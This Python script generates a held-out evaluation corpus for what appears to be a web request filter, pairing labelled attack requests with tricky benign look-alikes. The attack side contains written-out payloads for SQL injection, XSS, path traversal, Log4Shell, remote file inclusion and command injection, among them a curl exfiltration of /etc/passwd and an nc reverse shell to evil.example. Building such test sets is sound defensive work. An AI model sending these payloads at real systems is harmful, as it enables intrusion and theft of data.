# Held-out corpus: written after the rules were tuned on attacks.jsonl / benign.jsonl, and never used for tuning.
import json, urllib.parse as u
att, ben = [], []
def a(cat, url, headers=None, method='GET', body=None, ct=None):
    e = {'category': cat, 'method': method, 'url': url}
    h = dict(headers or {})
    if body is not None: e['body'] = body; h['content-type'] = ct
    if h: e['headers'] = h
    att.append(e)
def aq(cat, payload, param='v', path='/api/x'):
    a(cat, f"{path}?{param}={u.quote(payload, safe='')}")
for p in ["1' or 2=2 -- -", "x' OR username LIKE '%admin%", "1) or (1=1", "' UNION ALL SELECT NULL,NULL,NULL-- -",
          "1 AND 5=5", "'; DECLARE @q varchar(99); SET @q='x'; EXEC(@q)--", "1' AND (SELECT 1 FROM (SELECT SLEEP(3))a)--",
          "' oR 'a' LIKE 'a", "admin')--", "1 UniOn SeLeCt user(),2", "-1' union select 1,group_concat(table_name) from information_schema.tables--",
          "1 or sleep(5)#", "1'||(SELECT version())||'", "';SELECT * FROM users WHERE 't'='t"]:
    aq('sqli', p, 'id')
for p in ["<sCrIpT src=https://evil.example/x.js>", "<img/src/onerror=alert(1)>", "<svg><script>alert&#40;1&#41;</script>",
          "\"autofocus onfocus=\"alert(1)", "<iframe srcdoc=\"<script>alert(1)</script>\">", "javascript&colon;alert(1)",
          "<a href=\"jav&#x09;ascript:alert(1)\">", "<body/onpageshow=alert(1)>", "';alert(document.domain)//", "<x onclick=alert(1)>click",
          "%3Csvg%2Fonload%3Dconfirm%28%29%3E", "<img src=1 onerror=\"window.location='//evil.example'\">", "<style>@import'//evil.example'</style>",
          "<embed code=\"//evil.example/x.swf\">"]:
    aq('xss', p, 'msg')
for p in ["../../../../../../etc/shadow", "..%2F..%2F..%2F..%2Fwindows%2Fwin.ini", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
          "/var/www/html/../../../etc/passwd", "....//....//....//etc/group", "..%255c..%255c..%255cboot.ini", "/proc/self/fd/0"]:
    aq('path-traversal', p, 'file')
for path in ['/.svn/entries', '/.htpasswd', '/.DS_Store', '/api/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd', '/.env.production']:
    a('path-traversal', path)
for p in ["8.8.8.8;id", "8.8.8.8 && cat /etc/issue", "|| uname -a", "$(cat /etc/passwd)", "`id`", "x|curl -d @/etc/passwd evil.example",
          "a; nc -e /bin/bash evil.example 9001", "${jndi:rmi://evil.example:1099/o}", "${${env:X:-j}ndi:ldap://evil.example/a}",
          "127.0.0.1%0Awhoami", ";${IFS}cat${IFS}/etc/passwd", "{{config.items()}}", "eval('require(\"child_process\").exec(\"id\")')"]:
    aq('command-injection', p, 'host')
for p in ["http://evil.example/r57.txt?", "php://filter/read=string.rot13/resource=config.php", "http://169.254.169.254/metadata/v1/",
          "file:///c:/windows/win.ini", "expect://ls", "https://evil.example/backdoor.php?"]:
    aq('remote-file-inclusion', p, 'page')
for ua in ['sqlmap/1.8#dev (https://sqlmap.org)', 'Mozilla/5.0 (compatible; Nuclei)', 'Nikto', 'WhatWeb/0.5.5', 'feroxbuster/2.10.0',
           'Mozilla/5.0 (X11; Linux x86_64) OpenVAS-VT']:
    a('scanner', '/api/x', headers={'user-agent': ua})
a('sqli', '/api/orders', method='POST', body=json.dumps({'filter': "status' OR 1=1--"}), ct='application/json')
a('xss', '/api/posts', method='POST', body='title=hi&content=%3Cscript%3Ealert(1)%3C%2Fscript%3E', ct='application/x-www-form-urlencoded')

def b(url, headers=None, method='GET', body=None, ct=None):
    e = {'method': method, 'url': url}
    h = dict(headers or {})
    if body is not None: e['body'] = body; h['content-type'] = ct
    if h: e['headers'] = h
    ben.append(e)
for s in ["Guns N' Roses", "Let's go!", "you & me", "The Lord of the Rings: The Return of the King", "What is 2+2?", "x > 5 or y < 3",
          "50/50 chance", "24/7 support", "A+ rating", "pre-order now", "Mr. O'Connor's order #1234", "size: 10.5; width: wide",
          "shoes; boots; sandals", "ping me later", "echo chamber", "select comfort mattress", "union jack", "delete key",
          "drop shipping", "alert bracelet", "insert tab", "sleep number bed", "catalog 2025", "the id badge", "type 2 diabetes",
          "key=value pairs", "a=b&c=d tutorial", "\"quoted\" and 'single'", "(parenthesized) text", "[brackets] {braces}",
          "email@example.com", "+49 30 1234567", "€20 gift card", "¿Qué tal?", "naïve", "Ñandú", "Straße", "日本語テキスト", "한국어",
          "C# vs Java", "F# programming", ".NET 8", "ASP.NET Core", "Vue.js 3", "lodash/fp", "~/projects", "git commit -m", "npm i -D vitest",
          "SELECT statements explained", "how does UNION work in SQL", "prevent <script> injection", "what is /etc/passwd",
          "localhost:3000 not working", "127.0.0.1 meaning", "../relative paths", "javascript:void(0) links"]:
    b('/api/search?q=' + u.quote(s, safe=''))
for path in ['/api/users/42/orders', '/api/products/sku-AB12-34', '/api/v3/reports/2024-Q4.csv', '/assets/fonts/Inter.var.woff2',
             '/api/catalog/men/shoes/running', '/api/docs/readme.md', '/api/users/me', '/oauth/authorize', '/api/files/a%20b%20c.txt']:
    b(path)
for p in [{'include': 'author,comments', 'page[size]': '20'}, {'q': 'status:open label:"good first issue"'}, {'after': 'Y3Vyc29yOjEw'},
          {'webhook': 'https://hooks.slack.com/services/T0/B0/x'}, {'callback_url': 'https://partner.example.net/notify'},
          {'dir': 'asc', 'by': 'name'}, {'ts': '1732612345678'}, {'geo': '40.7128,-74.0060'}, {'msg': 'Thanks!! :-) see you @ 5'},
          {'expr': 'price*qty-discount'}, {'title': "Don't panic"}, {'note': 'Call me at (555) 010-9999; after 6pm'}]:
    b('/api/items?' + u.urlencode(p))
for ua in ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0', 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)',
           'Wget/1.21.4', 'HTTPie/3.2.4', 'Java/21.0.5', 'Ruby', 'aiohttp/3.11', 'Mozilla/5.0 (compatible; YandexBot/3.0)', 'facebookexternalhit/1.1']:
    b('/api/items', headers={'user-agent': ua})
for body in [{'comment': "I'd say it's 5/5 -- no, 4/5; shipping was slow"}, {'text': 'Please select one: A or B'}, {'q': 'where is my order?'},
             {'bio': 'Engineer @ Acme; ex-Initech. Likes <3 cats'}, {'note': 'Use `npm run build` then deploy'}]:
    b('/api/comments', method='POST', body=json.dumps(body), ct='application/json')

for name, rows in [('holdout-attacks', att), ('holdout-benign', ben)]:
    with open(name + '.jsonl', 'w') as f:
        for e in rows: f.write(json.dumps(e, ensure_ascii=False) + '\n')
print(len(att), len(ben))
